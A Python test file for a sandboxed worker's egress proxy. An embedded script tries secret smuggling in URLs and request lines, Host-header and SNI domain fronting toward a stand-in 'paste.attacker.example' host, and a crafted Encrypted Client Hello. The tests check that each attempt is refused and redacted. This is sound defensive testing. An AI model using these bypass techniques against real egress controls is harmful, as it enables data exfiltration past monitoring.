"""Attacks on what a run's egress proxy reports and on the host it checks, tried for real from runs on the local
runtime (root) and the Docker runtime.

What a refusal reports: a token in a query string, a path, a header value or a malformed request line never comes
back in the run's result (``egress_refusals``), and a host comes back as it was sent (its case kept, so that the
result's redaction can find a secret used as a host name). The host checked is the host served (domain fronting): a
plain request whose ``Host`` header names another host than its URI, first or later on a kept-alive connection, and
a tunnel whose first bytes are a ClientHello naming another server (SNI), hiding it (Encrypted Client Hello), or are
no ClientHello at all, are refused, counted and listed, and nothing of them reaches the allowed host; a tunnel with
its own host's name still works, end to end over real TLS. The allowed host is the tests' own origin on loopback
(``tests.egress_tls.tls_origin``), its name pinned; nothing leaves the machine."""

from __future__ import annotations

import json

import pytest

from tests.conftest import write_skill
from tests.egress_hosts import ALLOWED
from tests.egress_tls import ENCRYPTED_CLIENT_HELLO, crafted_hello, server_name_extension
from tests.egress_tls import tls_origin  # noqa: F401 - the allowed host's origin
from tests.integration.conftest import docker_engine, docker_runtime_factory  # noqa: F401 - shared fixtures
from worker.contract import RunRequest, RunResult, RuntimeName, SkillRef
from worker.egress.policy import MALFORMED
from worker.runtimes.local.runtime import LocalWorkspaceRuntime

SECRET = "s3cr3t-Q9xZ7"
"""What a run puts in a query string, a path, a method or a malformed request line: never in its result."""
NAMED_HOST = "Api-KEY.Example.org"
"""A host with upper-case letters, off the allow-list: reported as sent."""
FRONT = "paste.attacker.example"
"""Another host the allowed server might also serve, named in a ``Host`` header or a ClientHello."""

ATTACKS = r'''
import json, socket, ssl, sys
mode, port = sys.argv[1], int(sys.argv[2])
PROXY = ("127.0.0.1", 3128)
ALLOWED, SECRET, NAMED_HOST, FRONT = "@ALLOWED@", "@SECRET@", "@NAMED_HOST@", "@FRONT@"

def to_end(s):
    answer = b""
    try:
        while chunk := s.recv(65536):
            answer += chunk
    except OSError as exc:
        return "error " + type(exc).__name__
    return answer.decode("latin-1")

def response(s):
    """One answer (with a Content-Length) as 'status body'."""
    data = b""
    while b"\r\n\r\n" not in data and (chunk := s.recv(65536)):
        data += chunk
    head, _, body = data.partition(b"\r\n\r\n")
    length = int([line.split(b":")[1] for line in head.split(b"\r\n") if line.lower().startswith(b"content-length")][0])
    while len(body) < length and (chunk := s.recv(65536)):
        body += chunk
    return head.split(b" ")[1].decode() + " " + body.decode()

def status(head):
    with socket.create_connection(PROXY, timeout=20) as s:
        s.sendall(head.encode("latin-1"))
        answer = to_end(s)
    return answer.split(" ")[1] if answer.startswith("HTTP/") else answer[:40]

def tunnel():
    s = socket.create_connection(PROXY, timeout=20)
    s.sendall(f"CONNECT {ALLOWED}:{port} HTTP/1.1\r\nHost: {ALLOWED}:{port}\r\n\r\n".encode())
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        head += s.recv(1)
    assert head.startswith(b"HTTP/1.1 200"), head
    return s

def tls(name, context):
    try:
        with context.wrap_socket(tunnel(), server_hostname=name) as s:
            s.sendall(f"GET /tls HTTP/1.1\r\nHost: {ALLOWED}:{port}\r\n\r\n".encode())
            return response(s)
    except OSError as exc:
        return "error " + type(exc).__name__

found = {}
if mode == "post_query":
    found["post_query"] = status(f"POST http://{ALLOWED}:{port}/upload?token={SECRET} HTTP/1.1\r\n"
                                 f"Host: {ALLOWED}:{port}\r\nContent-Length: 2\r\n\r\nhi")
elif mode == "named_host":
    found["named_host"] = status(f"CONNECT {NAMED_HOST}:443 HTTP/1.1\r\n\r\n")
elif mode == "malformed":
    found["four_words"] = status(f"GET http://{ALLOWED}:{port}/?token={SECRET} HTTP/1.1 more\r\n\r\n")
    found["userinfo"] = status(f"CONNECT {SECRET}@{ALLOWED}:{port} HTTP/1.1\r\n\r\n")
    found["port"] = status(f"GET http://{ALLOWED}:{SECRET}/ HTTP/1.1\r\n\r\n")
    found["origin_form"] = status(f"GET /path?token={SECRET} HTTP/1.1\r\nHost: {ALLOWED}:{port}\r\n\r\n")
    found["method"] = status(f"{SECRET} http://{ALLOWED}:{port}/ HTTP/1.1\r\nHost: {ALLOWED}:{port}\r\n\r\n")
elif mode == "host":
    found["fronted"] = status(f"GET http://{ALLOWED}:{port}/fronted HTTP/1.1\r\nHost: {FRONT}\r\n\r\n")
    found["two_hosts"] = status(f"GET http://{ALLOWED}:{port}/two HTTP/1.1\r\nHost: {ALLOWED}:{port}\r\n"
                                f"Host: {FRONT}\r\n\r\n")
    found["other_port"] = status(f"GET http://{ALLOWED}:{port}/port HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n")
elif mode == "kept_alive":
    with socket.create_connection(PROXY, timeout=20) as s:
        s.sendall(f"GET http://{ALLOWED}:{port}/first HTTP/1.1\r\nHost: {ALLOWED.upper()}:{port}\r\n\r\n".encode())
        found["first"] = response(s)
        s.sendall(f"GET http://{ALLOWED}:{port}/second HTTP/1.1\r\nHost: {FRONT}\r\n\r\n".encode())
        found["second"] = to_end(s).split(" ")[1]
elif mode == "sni":
    found["sni"] = tls(FRONT, ssl._create_unverified_context())
elif mode == "plain":
    with tunnel() as s:
        s.sendall(f"GET /tunnel HTTP/1.1\r\nHost: {ALLOWED}:{port}\r\n\r\n".encode())
        found["plain"] = to_end(s)
elif mode == "ech":
    with tunnel() as s:
        s.sendall(bytes.fromhex(open("ech.hex").read()))
        found["ech"] = to_end(s)
elif mode == "tls":
    found["tls"] = tls(ALLOWED, ssl.create_default_context(cafile="ca.pem"))
    found["case_and_dot"] = tls(ALLOWED.upper() + ".", ssl._create_unverified_context())  # ssl's check wants no dot
print(json.dumps(found))
'''


@pytest.fixture
def attacks(shared_dir, tls_origin):
    root = shared_dir / "fronting"
    script = ATTACKS
    for name, value in {"ALLOWED": ALLOWED, "SECRET": SECRET, "NAMED_HOST": NAMED_HOST, "FRONT": FRONT}.items():
        script = script.replace(f"@{name}@", value)
    ech = crafted_hello([server_name_extension(ALLOWED), (ENCRYPTED_CLIENT_HELLO, bytes(64))])
    write_skill(root, "fronting", files={"attacks.py": script, "ca.pem": tls_origin.cert.read_text(),
                                         "ech.hex": ech.hex()})
    for path in [root, *root.rglob("*")]:
        path.chmod(0o755 if path.is_dir() else 0o644)
    return SkillRef(name="fronting", root=str(root), path="fronting")


@pytest.fixture(params=[pytest.param("local", marks=pytest.mark.root),
                        pytest.param("docker", marks=pytest.mark.docker)])
def runtime_name(request) -> RuntimeName:
    return RuntimeName(request.param)


@pytest.fixture
async def attack(runtime_name, work_root, request, attacks, tls_origin):
    """Run ``attacks.py MODE`` in a run allowed the origin alone; its findings and its result."""
    if runtime_name == RuntimeName.DOCKER:
        runtime = request.getfixturevalue("docker_runtime_factory")()
    else:
        runtime = LocalWorkspaceRuntime(work_root)

    async def run(mode: str) -> tuple[dict, RunResult]:
        port = tls_origin.port
        result = await runtime.run(RunRequest(skill=attacks, command=f"python3 attacks.py {mode} {port}",
                                              runtime=runtime_name, timeout=120, egress=[f"{ALLOWED}:{port}"]))
        assert result.exit_code == 0, result.stderr
        return json.loads(result.stdout), result

    yield run
    if runtime_name == RuntimeName.LOCAL:
        await runtime.close()


def _refusals(result: RunResult) -> list[tuple[str, str]]:
    assert result.egress_refused == len(result.egress_refusals)
    return [(refusal.destination, refusal.reason) for refusal in result.egress_refusals]


def _nothing_of_the_request_in(refusals: list[tuple[str, str]]) -> None:
    for destination, reason in refusals:
        for text in (SECRET, "token", "/upload", "/fronted", "/second", "/path", FRONT):
            assert text not in destination and text not in reason, (text, destination, reason)


async def test_a_post_with_a_secret_in_its_query_is_reported_without_path_or_query(attack, tls_origin):
    found, result = await attack("post_query")
    assert found == {"post_query": "405"}, found
    refusals = _refusals(result)
    _nothing_of_the_request_in(refusals)
    assert [destination for destination, _ in refusals] == [f"{ALLOWED}:{tls_origin.port}"]
    assert not tls_origin.heads


async def test_a_connect_to_a_host_in_upper_case_is_reported_as_sent(attack):
    found, result = await attack("named_host")
    assert found == {"named_host": "403"}, found
    # the host as sent, its case kept: what the result's redaction looks for when a secret is the host's name
    assert _refusals(result) == [(f"{NAMED_HOST}:443", f"{NAMED_HOST}:443 is not on the allow-list")]


async def test_a_malformed_request_holding_a_secret_is_reported_without_it(attack, tls_origin):
    found, result = await attack("malformed")
    assert found == {"four_words": "400", "userinfo": "400", "port": "400", "origin_form": "400",
                     "method": "405"}, found
    refusals = _refusals(result)
    _nothing_of_the_request_in(refusals)
    assert [destination for destination, _ in refusals] == [MALFORMED] * 4 + [f"{ALLOWED}:{tls_origin.port}"]
    assert not tls_origin.heads


async def test_a_host_header_naming_another_host_is_refused_and_nothing_reaches_the_server(attack, tls_origin):
    found, result = await attack("host")
    assert found == {"fronted": "403", "two_hosts": "400", "other_port": "403"}, found
    refusals = _refusals(result)
    _nothing_of_the_request_in(refusals)
    assert [destination for destination, _ in refusals] == [f"{ALLOWED}:{tls_origin.port}"] * 3
    assert "domain fronting" in refusals[0][1]
    assert tls_origin.firsts == [] and tls_origin.heads == []  # the proxy did not even connect


async def test_a_kept_alive_connections_later_request_with_another_host_is_refused(attack, tls_origin):
    found, result = await attack("kept_alive")
    assert found == {"first": "200 reached /first", "second": "403"}, found  # the same host in any case passes
    refusals = _refusals(result)
    _nothing_of_the_request_in(refusals)
    assert len(refusals) == 1 and "domain fronting" in refusals[0][1]
    assert [head.split(b"\r\n")[0] for head in tls_origin.heads] == [b"GET /first HTTP/1.1"]


async def test_a_tunnel_whose_client_hello_names_another_server_is_closed_with_nothing_sent_on(attack, tls_origin):
    found, result = await attack("sni")
    assert found["sni"].startswith("error"), found
    assert [reason for _, reason in _refusals(result)] == [
        f"the tunnel to {ALLOWED}:{tls_origin.port} was closed: the TLS ClientHello names another server (SNI) "
        "than the CONNECT target (domain fronting)"]
    assert not tls_origin.reached() and tls_origin.server_names == []


async def test_a_tunnel_that_carries_no_tls_is_closed_with_nothing_sent_on(attack, tls_origin):
    found, result = await attack("plain")
    assert found == {"plain": ""}, found
    refusals = _refusals(result)
    assert len(refusals) == 1 and "did not begin with a TLS ClientHello" in refusals[0][1], refusals
    assert not tls_origin.reached()


async def test_a_tunnel_whose_client_hello_hides_its_server_is_closed_with_nothing_sent_on(attack, tls_origin):
    found, result = await attack("ech")  # the outer name is the allowed host's; the real one is encrypted
    assert found == {"ech": ""}, found
    refusals = _refusals(result)
    assert len(refusals) == 1 and "encrypted_client_hello" in refusals[0][1], refusals
    assert not tls_origin.reached()


async def test_a_tunnel_with_its_own_hosts_name_still_works_end_to_end(attack, tls_origin):
    found, result = await attack("tls")
    assert found == {"tls": "200 reached /tls over TLS", "case_and_dot": "200 reached /tls over TLS"}, found
    assert result.egress_refused == 0
    assert tls_origin.server_names == [ALLOWED, ALLOWED.upper() + "."]  # sent as the client spelled it, let through
